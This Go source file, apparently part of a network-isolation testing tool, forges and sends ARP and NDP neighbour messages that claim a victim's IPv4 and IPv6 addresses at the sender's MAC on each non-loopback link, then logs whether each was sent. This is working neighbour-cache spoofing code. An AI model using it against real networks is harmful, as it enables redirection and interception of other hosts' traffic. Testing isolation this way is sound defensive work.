package attack

import (
	"net"
	"net/netip"
	"time"

	"gvisor.dev/gvisor/pkg/tcpip/header"
)

// tunMAC is the link-layer address the neighbour messages sent through a
// link without one (a TUN) claim: any address would do, this one is easy
// to find in the node's table.
var tunMAC = net.HardwareAddr{0x02, 0xa7, 0x7a, 0xc4, 0x00, 0x01}

// NeighCases name the neighbour messages, for Spec.NeighCase.
var NeighCases = []string{"arp-reply", "arp-gratuitous-request", "arp-gratuitous-reply", "arp-request-to-node",
	"na-unsolicited", "na-to-node", "ns-to-node"}

// neighMsg is one ARP or NDP message claiming that an address is at mac.
type neighMsg struct {
	name      string
	claimed   netip.Addr
	etherType uint16
	dst       net.HardwareAddr
	payload   []byte
}

// neighMsgs are the messages claiming victim's addresses at mac, sent
// where the node (node, at gw) hears them.
func neighMsgs(victim, node Pair, mac, gw net.HardwareAddr) []neighMsg {
	var ms []neighMsg
	zero := make(net.HardwareAddr, 6)
	arp := uint16(header.ARPProtocolNumber)
	if v, n := victim.V4, node.V4; v.IsValid() && n.IsValid() {
		ms = append(ms,
			// An answer nobody asked for, to the node.
			neighMsg{"arp-reply", v, arp, gw, ARPPacket(header.ARPReply, mac, v, gw, n)},
			// Gratuitous announcements, as a host that took the address.
			neighMsg{"arp-gratuitous-request", v, arp, Broadcast, ARPPacket(header.ARPRequest, mac, v, zero, v)},
			neighMsg{"arp-gratuitous-reply", v, arp, Broadcast, ARPPacket(header.ARPReply, mac, v, Broadcast, v)},
			// A question to the node from the claimed address: a host
			// learns the asker's address from it.
			neighMsg{"arp-request-to-node", v, arp, Broadcast, ARPPacket(header.ARPRequest, mac, v, zero, n)},
		)
	}
	if v, n := victim.V6, node.V6; v.IsValid() && n.IsValid() {
		ip6 := uint16(header.IPv6ProtocolNumber)
		sn := SolicitedNode(n)
		ms = append(ms,
			neighMsg{"na-unsolicited", v, ip6, MulticastMAC(AllNodes), NAPacket(v, AllNodes, v, mac, false, true)},
			neighMsg{"na-to-node", v, ip6, gw, NAPacket(v, n, v, mac, true, true)},
			neighMsg{"ns-to-node", v, ip6, MulticastMAC(sn), NSPacket(v, sn, n, mac)},
		)
	}
	return ms
}

func (r *runner) neigh() {
	links, err := listLinks()
	if err != nil {
		r.emit(Outcome{Attack: Neigh, Case: "links", Err: err.Error()})
		return
	}
	for _, l := range links {
		if l.loopback() {
			continue // back into the pod's own kernel: nobody else hears it
		}
		s, err := openLinkSock(l)
		if err != nil {
			r.emit(Outcome{Attack: Neigh, Case: l.Name, Link: l.Name, Err: err.Error()})
			continue
		}
		mac := l.MAC
		if len(mac) != 6 {
			mac = tunMAC
		}
		if r.s.NeighMAC != "" {
			mac, _ = net.ParseMAC(r.s.NeighMAC)
		}
		s.resolve(r.s.Self, r.s.NodeAddr)
		for _, m := range neighMsgs(r.s.Victim, r.s.NodeAddr, mac, s.gw) {
			if r.s.NeighCase != "" && m.name != r.s.NeighCase {
				continue
			}
			o := Outcome{Attack: Neigh, Case: l.Name + "/" + m.name, Link: l.Name, Claimed: m.claimed, MAC: mac.String()}
			if err := s.sendTo(m.dst, m.etherType, m.payload); err != nil {
				o.Err = err.Error()
			} else {
				o.Sent = true
			}
			r.emit(o)
		}
		// The node takes a message in as it gets it: a moment is plenty.
		time.Sleep(50 * time.Millisecond)
		s.Close()
	}
}
